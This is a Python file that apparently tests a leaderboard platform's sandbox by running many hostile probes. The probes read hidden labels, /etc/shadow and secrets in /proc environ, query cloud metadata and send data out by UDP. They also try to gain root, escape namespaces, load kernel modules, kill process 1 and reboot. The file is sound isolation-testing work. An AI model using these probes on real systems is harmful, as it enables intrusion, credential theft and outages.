"""What a hostile notebook or script tries, one small piece of code each.

Each is the body of a function. It has succeeded if it returns something true, which is its booty; failing is to raise, or
to return nothing. `world` holds what the attacker is generously told: paths, ports and process numbers of the platform.
"""

PRELUDE = '''
import ctypes, errno, glob, json, os, pathlib, signal, socket, sqlite3, stat, struct, subprocess, sys, time
import urllib.request

world = json.loads({world!r})
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def call(number, *arguments):
    """Make a system call by its number on x86-64; return its result if it was let through."""
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result + 1

def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(3)
        one.connect(address)
        return f"connected to {{address}}"

def fetch(url):
    return urllib.request.urlopen(urllib.request.Request(url, headers={{"Authorization": "Bearer secret"}}), timeout=3).read()

def overwrite(path):
    """Open it for writing, and leave it as it is: that it can be opened is bad enough."""
    open(path, "r+b").close()
    return path

def spoil(folder):
    path = os.path.join(folder, "attack-was-here")
    open(path, "w").close()
    os.unlink(path)
    return path

def others(folder, own):
    return [name for name in os.listdir(folder) if name != os.path.basename(own)]

def attempt(name, attack):
    try:
        got = attack()
    except BaseException as error:
        got, why = None, f"{{type(error).__name__}}: {{error}}"
    else:
        why = "it found nothing"
    print("ATTEMPT " + json.dumps([name, repr(got)[:300] if got else None, why[:200]]), flush=True)
'''

PROBES: dict[str, str] = {
    # Labels and other people's work
    "read the labels where they are": "return open(world['labels']).read()",
    "list the hidden part of the data set": "return os.listdir(os.path.dirname(world['labels']))",
    "climb from the public part to the labels": (
        "return open(os.path.join(world['public'], '..', 'hidden', 'labels.csv')).read()"
    ),
    "find the labels anywhere": """
for parent, folders, names in os.walk("/"):
    if parent == "/":
        folders[:] = [name for name in folders if name not in ("dev", "proc", "sys", "usr")]
    if parent in (sys.prefix, sys.base_prefix):
        folders[:] = []
    for name in names:
        try:
            with open(os.path.join(parent, name), "rb") as file:
                if world["canary"][::-1].encode() in file.read(100_000):
                    return os.path.join(parent, name)
        except OSError:
            pass
""",
    "leave by a link to the labels": """
link = os.path.join(os.environ["TMPDIR"], "link")
os.symlink(world["labels"], link)
return open(link).read()
""",
    "make the labels one's own by a hard link": """
link = os.path.join(output_dir, "labels.csv")
os.link(world["labels"], link)
return open(link).read()
""",
    "read what another job has left": "return [open(path).read() for path in glob.glob(world['artifacts'] + '/*/*/*')]",
    "read what another job has submitted": "return os.listdir(world['submissions'])",
    "read the logs of other jobs": "return os.listdir(world['logs'])",
    "look into the folder of a job that runs": "return others(world['scratch'], os.path.dirname(output_dir))",
    "look at the sockets of a job that runs": "return others(world['run_root'], os.path.dirname(os.environ['HOME']))",
    "meet another job in a folder for all": """
found = [path for folder in ("/tmp", "/var/tmp", "/dev/shm") for path in glob.glob(folder + "/neighbour*")]
return found
""",
    # The platform's code and files
    "change the platform's code": "return overwrite(world['code'])",
    "read the platform's code": "return open(world['code']).read()",
    "put a module among the installed ones": "return spoil(world['site_packages'])",
    "put a start-up file into the interpreter": "return spoil(os.path.join(sys.base_prefix, 'lib'))",
    "change a program of the system": "return overwrite('/usr/bin/env')",
    "change the public data": "return spoil(world['public'])",
    "change the weights": "return spoil(world['weights'])",
    "change one's own submission": "return overwrite(os.path.join(os.getcwd(), world['entrypoint']))",
    "read the database": "return sqlite3.connect('file:' + world['database'] + '?mode=ro', uri=True).execute('select * from jobs').fetchall()",
    "write to the database": "return sqlite3.connect(world['database']).execute('begin immediate')",
    "read the platform's home": "return {'leadersboard.db', 'secrets', 'logs', 'submissions', 'artifacts'} & {*os.listdir(world['home'])}",
    "read the scoring notebook": "return open(world['scoring']).read()",
    "read root's files": "return [open('/root/' + name).read() for name in ('.bashrc', '.profile', '.netrc')]",
    "read the system's passwords": "return open('/etc/shadow').read()",
    "read who uses the machine": "return len(open('/etc/passwd').read().splitlines()) > 1",
    # Secrets
    "find a secret in the environment": "return [v for v in os.environ.values() if v in world['secrets']]",
    "find a secret in somebody's environment": """
found = []
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        content = open(path, "rb").read()
    except OSError:
        continue
    found += [secret for secret in world["secrets"] if secret.encode() in content]
return found
""",
    "find an open file of the platform": """
found = []
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink("/proc/self/fd/" + fd)
    except OSError:
        continue
    if target.startswith(world["home"]) and output_dir not in target and not target.endswith(("kernel.err", ".ipynb")):
        found.append(target)
return [one for one in found if os.path.dirname(os.environ["HOME"]) not in one and os.getcwd() not in one]
""",
    # Processes
    "see the worker": "return 'leadersboard' in open('/proc/%d/cmdline' % world['worker']).read()",
    "see processes that are not one's own": (
        "return [p for p in os.listdir('/proc') if p.isdigit() and int(p) > 5000]"
    ),
    "read the worker's memory": "return open('/proc/%d/mem' % world['worker'], 'rb').read(1)",
    "follow the worker's open files": "return os.listdir('/proc/%d/fd' % world['worker']) if world['worker'] > 5000 else None",
    "leave through the worker's root": "return os.listdir('/proc/%d/root' % world['worker']) if world['worker'] > 5000 else None",
    "leave through the root of process 1": "return os.path.exists('/proc/1/root' + world['labels'])",
    "send the worker a signal": "os.kill(world['worker'], 0); return world['worker'] > 5000",
    "send a signal to whoever started this": "os.kill(os.getppid(), 0); os.kill(1, signal.SIGKILL); return os.getppid() > 5000",
    "trace process 1": "return call(101, 16, 1, 0, 0)",
    "take a file out of process 1": "return call(438, call(434, 1, 0) - 1, 0, 0)",
    # Parts of the platform that listen
    "speak to Redis on its socket": "return connect(socket.AF_UNIX, world['redis'])",
    "speak to Redis on its port": "return connect(socket.AF_INET, ('127.0.0.1', 6379))",
    "speak to PostgreSQL": "return connect(socket.AF_INET, ('127.0.0.1', 5432))",
    "speak to MLflow": "return fetch(world['mlflow'] + '/health')",
    "forge a run in MLflow": """
body = json.dumps({"name": "forged"}).encode()
return urllib.request.urlopen(urllib.request.Request(
    world["mlflow"] + "/api/2.0/mlflow/experiments/create", body, {"Content-Type": "application/json"}), timeout=3).read()
""",
    "speak to the API": "return fetch(world['api'] + '/jobs')",
    "speak to the API by the machine's name": "return fetch(world['api'].replace('127.0.0.1', world['hostname']) + '/jobs')",
    "speak to the hub": "return connect(socket.AF_INET, ('127.0.0.1', 8000))",
    "speak to the hub's own API": "return connect(socket.AF_INET, ('127.0.0.1', 8081))",
    "speak to a server of this test": "return connect(socket.AF_INET, ('127.0.0.1', world['port']))",
    "speak to a server of this test on another address": "return connect(socket.AF_INET, (world['address'], world['port']))",
    "speak over an abstract socket": "return connect(socket.AF_UNIX, '\\0' + world['abstract'])",
    "speak to Docker": "return connect(socket.AF_UNIX, '/var/run/docker.sock')",
    "speak to the system's bus": "return connect(socket.AF_UNIX, '/run/dbus/system_bus_socket')",
    # The network
    "ask the cloud for credentials": "return fetch('http://169.254.169.254/latest/meta-data/')",
    "reach the internet": "return connect(socket.AF_INET, ('1.1.1.1', 53))",
    "reach the internet by IPv6": "return connect(socket.AF_INET6, ('2606:4700:4700::1111', 53))",
    "send something out without a connection": """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
return one.sendto(b"labels", ("1.1.1.1", 53))
""",
    "ask for a name": "return socket.getaddrinfo('pypi.org', 443)",
    "find a network card": "return [name for _, name in socket.if_nameindex() if name != 'lo']",
    "send raw packets": "return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "listen to all packets": "return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
    "speak to the machine that hosts this one": "return socket.socket(40, socket.SOCK_STREAM)",
    "use the kernel's cryptography": "return socket.socket(38, socket.SOCK_SEQPACKET)",
    # Getting more rights
    "become root": "os.setuid(0); return os.getuid() == 0",
    "become root by a program that may": """
done = subprocess.run(["su", "-c", "id -u"], input="", capture_output=True, text=True, timeout=10)
return done.stdout.strip() == "0"
""",
    "keep a capability": """
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
return any(int(status[name], 16) for name in ("CapPrm", "CapEff", "CapBnd", "CapAmb", "CapInh"))
""",
    "get rights from a program": "return int(open('/proc/self/status').read().split('NoNewPrivs:')[1].split()[0]) == 0",
    "make a user namespace": "return call(272, 0x10000000)",
    "make a user namespace by a clone": "return call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)",
    "make a user namespace by the newer clone": """
return call(435, ctypes.create_string_buffer(struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0)), 64)
""",
    "make a network namespace": "return call(272, 0x40000000)",
    "enter another namespace": "return call(308, os.open('/proc/1/ns/net', os.O_RDONLY), 0)",
    "mount something": "return libc.mount(b'none', os.environ['TMPDIR'].encode(), b'tmpfs', 0, None) == 0",
    "mount over the read-only": "return libc.mount(b'none', b'/usr', None, 32 | 4096, None) == 0",
    "unmount what hides": "return libc.umount2(b'/tmp', 2) == 0",
    "change the root": "os.chroot(os.environ['TMPDIR']); return True",
    "open a file by its handle": "return call(304, -100, ctypes.create_string_buffer(128), 0)",
    "load a program into the kernel": "return call(321, 5, ctypes.create_string_buffer(128), 128)",
    "watch the machine's performance": "return call(298, ctypes.create_string_buffer(struct.pack('II', 1, 112) + bytes(104)), 0, -1, -1, 0)",
    "use the kernel's queues": "return call(425, 1, ctypes.create_string_buffer(120))",
    "handle one's own page faults": "return call(323, 0)",
    "use the kernel's keys": "return call(250, 0, -3, 1)",
    "load a module into the kernel": "return call(313, os.open('/usr/bin/env', os.O_RDONLY), b'', 0)",
    "restart the machine": "return call(169, 0xfee1dead, 672274793, 0x89ABCDEF, 0)",
    "read the kernel's messages": "return os.read(os.open('/dev/kmsg', os.O_RDONLY), 10)",
    "set the machine's clock": "return libc.clock_settime(0, ctypes.create_string_buffer(struct.pack('qq', int(time.time()), 0))) == 0",
    "name the machine": "socket.sethostname(socket.gethostname()); return True",
    "have core dumps run a program": "return overwrite('/proc/sys/kernel/core_pattern')",
    "press the system's emergency key": "return os.open('/proc/sysrq-trigger', os.O_WRONLY)",
    "change something of the kernel": "return spoil('/sys/devices/system/cpu') or overwrite('/proc/sys/vm/drop_caches')",
    # Devices
    "read the machine's disk": "return [open(path, 'rb').read(1) for path in ('/dev/vda', '/dev/sda', '/dev/nvme0n1') if os.path.exists(path)]",
    "make a device": "os.mknod(os.path.join(output_dir, 'disk'), stat.S_IFBLK | 0o666, os.makedev(254, 0)); return True",
    "make a device in memory": "os.mknod('/dev/shm/mem', stat.S_IFCHR | 0o666, os.makedev(1, 1)); return True",
    "find a device that is not harmless": """
harmless = {"core", "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero",
            "console", "mqueue"}
return [name for name in os.listdir("/dev") if name not in harmless]
""",
    # Getting around limits
    "raise the limit on processes": """
import resource
resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6))
return True
""",
    "be the last to be ended for memory": """
with open("/proc/self/oom_score_adj", "w") as file:
    file.write("-1000")
return True
""",
    "hold memory that is nobody's": "return call(319, b'hidden', 0)",
    "hold shared memory that is nobody's": "return call(29, 0, 1_000_000, 0o1600)",
    "go before everybody else": "os.setpriority(os.PRIO_PROCESS, 0, -20); return True",
    "go before everybody else in real time": "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)); return True",
    "hold memory in the system's queues of messages": """
queue = ctypes.CDLL(None, use_errno=True).mq_open(b"/attack", os.O_CREAT | os.O_RDWR, 0o600, None)
if queue < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
return queue + 1
""",
    "fill the sandbox's own root": "return spoil('/') or spoil('/etc') or spoil('/var')",
}


def code(world: str, parameters: str = "") -> list[str]:
    """Return the pieces of a program that tries all of it, each beginning where the last ended."""
    pieces = [PRELUDE.format(world=world) + parameters]
    for number, (name, body) in enumerate(PROBES.items()):
        lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
        pieces.append(f"def attack_{number}():\n{lines}\n\nattempt({name!r}, attack_{number})\n")
    return pieces
